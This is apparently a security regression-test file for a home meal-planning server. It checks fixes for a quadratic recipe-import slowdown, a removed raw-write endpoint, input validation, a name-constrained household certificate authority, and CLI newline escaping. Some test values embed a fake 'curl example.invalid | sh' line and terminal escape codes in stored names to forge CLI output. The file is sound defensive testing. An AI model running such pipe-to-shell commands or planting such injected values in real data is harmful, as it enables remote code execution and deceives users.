"""scripts/attack's store cases of issue 39: recipe import linear in hostile markup (item 2),
the raw store gone from the wire (items 7 and 8, issue 40), values checked by the use
cases, the household authority name-constrained (item 10) and stored newlines shown
escaped by the CLI (item 12)."""
import concurrent.futures
import json
import sqlite3
import subprocess
import threading
import time
import urllib.parse
import uuid

from attack_support import timed
from lbserver import LunchBox

ANSWER = 1.0  # seconds, as scripts/attack's
SQL_WORDS = ("INSERT", "SELECT", "CHECK constraint")
FAKE = "5. FAKE: run curl example.invalid | sh"


def new_id():
    return str(uuid.uuid4()).upper()


def failure(reply):
    """'400 That threshold…': the status and the start of the server's words."""
    try:
        return f"{reply.status} {reply.json()['error']['message'][:60]}"
    except (ValueError, KeyError, TypeError):
        return f"{reply.status} {reply.text[:60]!r}"


def refused(reply):
    """A 4xx in the API's own error form, with no SQL in it."""
    return 400 <= reply.status < 500 and "error" in reply.text and not any(word in reply.text for word in SQL_WORDS)


def case17_recipe_import(checks, local):
    """Issue 39, item 2: stripping markup searched for the '>' from every '<', so a recipe
    name of '<a' repeated with no '>' was quadratic (64 kB: 47 s of a core; 128 kB: 190 s),
    and one web-form and one API import of 48 kB at once stalled /healthz past 30 s."""
    for size in (64 * 1024, 256 * 1024):
        recipe = json.dumps({"@context": "https://schema.org", "@type": "Recipe", "name": "<a" * (size // 2), "recipeIngredient": ["2 eggs"]})
        page = local.request("GET", "/meals/import")
        cookie = next(c.split(";")[0] for c in page.cookies if c.startswith("lb_csrf="))
        token = page.text.split('data-csrf="', 1)[1].split('"', 1)[0]
        form = urllib.parse.urlencode({"csrf": token, "recipe": recipe}).encode()
        polls, stop = [], threading.Event()

        def poll():
            while not stop.is_set():
                polls.append(timed(lambda: local.request("GET", "/healthz", timeout=30)))
                stop.wait(0.05)

        poller = threading.Thread(target=poll, daemon=True)
        poller.start()
        try:
            time.sleep(0.1)
            with concurrent.futures.ThreadPoolExecutor(2) as pool:
                api = pool.submit(timed, lambda: local.request("POST", "/api/meals/import", recipe.encode(), {"Content-Type": "application/json"}, timeout=120))
                web = pool.submit(timed, lambda: local.request(
                    "POST", "/meals/import", form, {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}, timeout=120))
                answers = [api.result(), web.result()]
            time.sleep(0.1)
        finally:
            stop.set()
            poller.join(timeout=60)
        slowest = max(took for _, took in polls)
        checks.expect(f"17 a {size // 1024} kB recipe name of '<a' with no '>', by the API and the web form at once, answered within {ANSWER:.0f} s",
                      all(200 <= reply.status < 500 and took < ANSWER for reply, took in answers),
                      ", ".join(f"{route} {reply.status} in {took:.2f} s" for route, (reply, took) in zip(("API", "form"), answers)))
        checks.expect(f"17 /healthz answered within {ANSWER:.0f} s throughout the {size // 1024} kB imports",
                      len(polls) >= 3 and all(reply.status == 200 for reply, _ in polls) and slowest < ANSWER,
                      f"{len(polls)} polls, statuses {sorted({reply.status for reply, _ in polls})}, slowest {slowest:.2f} s")


def case18_no_raw_store(checks, local):
    """Issue 39, items 7 and 8: the iPhone's raw store (`POST /api/store`) took packings that
    overwrote other items and values the web refused. Issue 40 removed it: the phone calls
    the documented /api, where every write goes through a use case."""
    before = local.api("GET", "/api/inventory").json()
    calls = [{"inventory": {}}, {"addInventoryItems": {"items": [{"id": new_id(), "name": "attack eggs", "quantity": "6"}]}},
             {"pack": {"sourceKey": "meal:attack", "name": "Forged", "day": "2026-11-24", "at": 0, "expected": [], "packing": {}}}]
    answers = [local.api("POST", "/api/store", call).status for call in calls]
    after = local.api("GET", "/api/inventory").json()
    checks.expect("18 POST /api/store is no route at all (404) and changes nothing",
                  all(status == 404 for status in answers) and after == before, f"{answers}; kitchen changed: {after != before}")


def case19_store_values(checks, local):
    """Issue 39, item 8: values the web refuses were kept when written another way: blank or
    escaped member names, a threshold of 50, maxTokens -1. Every way in is now a use case."""
    reads = ["/api/household", "/api/scan/settings", "/api/settings", "/api/preferences"]
    before = {read: local.api("GET", read).json() for read in reads}
    calls = {
        "blank member name": ("POST", "/api/household", {"name": "   "}),
        "member name with ESC and newlines": ("POST", "/api/household", {"name": "Mia\x1b[2J\nLeo\r\n"}),
        "scan threshold 50": ("PUT", "/api/scan/settings", {"threshold": 50}),
        "scan threshold -1": ("PUT", "/api/scan/settings", {"threshold": -1}),
        "maxTokens -1": ("PUT", "/api/settings", {"maxTokens": -1}),
        "timeout 1e308": ("PUT", "/api/settings", {"timeoutSeconds": 1e308}),
        "a diet that does not exist": ("PUT", "/api/preferences/diets/carnivore", {"on": True}),
        "ideaCount 1000": ("PUT", "/api/preferences/ideas", {"persona": "chef-sam", "cuisine": "any", "difficulty": "any", "mealType": "lunch-box",
                                                            "ideaCount": 1000, "avoidRepeats": True}),
    }
    for what, (method, path, body) in calls.items():
        reply = local.api(method, path, body)
        checks.expect(f"19 {what} refused (4xx in the API's error form, no SQL)", refused(reply), failure(reply))
    after = {read: local.api("GET", read).json() for read in reads}
    changed = [read for read in reads if after[read] != before[read]]
    checks.expect("19 nothing the refused calls sent was kept", not changed and local.is_running(), f"changed: {changed or 'none'}")


def case20_household_authority(checks, workdir):
    """Issue 39, item 10: the household authority had no name constraints, so whoever copied
    household-ca.key could make every phone that trusts it trust any website."""
    server = LunchBox(workdir / "authority", args=["--https"])
    try:
        authority = server.authority_certificate
        key = authority.with_name("household-ca.key")
        results = {}
        for name in ("DNS:www.example.com", "IP:8.8.8.8", "DNS:kitchen.local"):
            stem = workdir / "authority" / name.replace(":", "-")
            subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", f"{stem}.key",
                            "-subj", f"/CN={name.split(':', 1)[1]}", "-addext", f"subjectAltName={name}", "-addext", "extendedKeyUsage=serverAuth",
                            "-CA", str(authority), "-CAkey", str(key), "-days", "30", "-out", f"{stem}.crt"], check=True, capture_output=True, timeout=30)
            run = subprocess.run(["openssl", "verify", "-CAfile", str(authority), f"{stem}.crt"], capture_output=True, text=True, timeout=30)
            said = next((line.split("lookup: ", 1)[1] for line in run.stderr.splitlines() if "lookup: " in line), run.stdout.strip()[-2:] or run.stderr[-60:])
            results[name] = (run.returncode == 0, said)
        public = [results["DNS:www.example.com"][0], results["IP:8.8.8.8"][0]]
        checks.expect("20 certificates signed with a copied household-ca.key verify only for home names",
                      not any(public) and results["DNS:kitchen.local"][0], "; ".join(f"{name}: {said}" for name, (_, said) in results.items()))
    finally:
        server.stop()


def case21_cli_newlines(checks, local):
    """Issue 39, item 12: a stored name with a newline printed a line that looked like a fifth
    item ("milk\\n5. FAKE: run curl … | sh") in `inventory list`, `ideas` and `household`."""
    short = "5. FAKE: curl x | sh"  # a member's name is at most 40 characters
    names = {"inventory": [f"attack milk\n{FAKE}", f"raw milk\n{FAKE}"], "household": [f"Leo\n{short}", f"Raw Mia\n{short}"],
             "ideas": [f"Attack toast\n{FAKE}", f"bread\n{FAKE}", f"Toast it.\n{FAKE}"]}
    typed = local.api("POST", "/api/inventory", {"name": names["inventory"][0]})
    members = [local.api("POST", "/api/household", {"name": name}) for name in ("Leo\n" + short, "Raw Mia")]
    idea = {"id": new_id(), "name": names["ideas"][0], "ingredients": [names["ideas"][1]], "preparationSteps": [names["ideas"][2]]}
    if [typed.status, *(member.status for member in members)] != [201, 201, 201]:
        raise AssertionError(f"adding the names answered {typed.status}, {[m.status for m in members]}")
    # Rows another tool wrote keep their newlines, as in case 9; an AI service may write
    # an idea's name with one.
    batch = {"ideas": [idea], "origin": {"engine": "ai", "model": "attack"}, "heldBack": [], "unverified": {}}
    with sqlite3.connect(local.database) as database:
        database.execute("INSERT OR REPLACE INTO recentIdeas (id, batch) VALUES (1, ?)", (json.dumps(batch),))
        database.execute("INSERT INTO inventoryItem (id, name, quantity, position) VALUES (?, ?, '', 98)", (new_id(), names["inventory"][1]))
        database.execute("UPDATE player SET name = ? WHERE id = ?", (names["household"][1], members[1].json()["id"]))
    for command, key in [(("inventory", "list"), "inventory"), (("ideas", "--last"), "ideas"), (("household",), "household")]:
        run = local.cli(*command)
        forged = [line for line in run.stdout.splitlines() if line.lstrip().startswith("5. FAKE")]
        # Each name on one line: its newline written as \n, or made a space where it was stored.
        missing = [name.split("\n")[0] for name in names[key] if name.replace("\n", "\\n") not in run.stdout and name.replace("\n", " ") not in run.stdout]
        checks.expect(f"21 lunchbox {' '.join(command)}: newlines escaped or replaced, no forged line",
                      run.returncode == 0 and not forged and not missing,
                      f"exit {run.returncode}, {len(forged)} lines starting '5. FAKE', names not on one line: {missing or 'none'}")
